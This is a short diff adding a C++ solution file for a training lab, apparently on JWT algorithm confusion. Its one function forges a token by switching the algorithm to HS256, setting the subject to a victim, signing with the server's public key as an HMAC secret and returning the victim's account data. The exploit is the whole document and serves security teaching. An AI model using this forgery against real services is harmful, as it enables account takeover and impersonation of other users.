@@ -1,0 +1,13 @@
+// Solution lab 7a · A secret that everybody has
+#include "algorithm_confusion.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  auto token = evidence.own_token;
+  token.header.set("alg", "HS256");
+  token.claims.set("sub", evidence.victim);
+  return {.account = evidence.show_me(sign_hs256(token, evidence.public_key)).body};
+}
+
+}  // namespace lesson
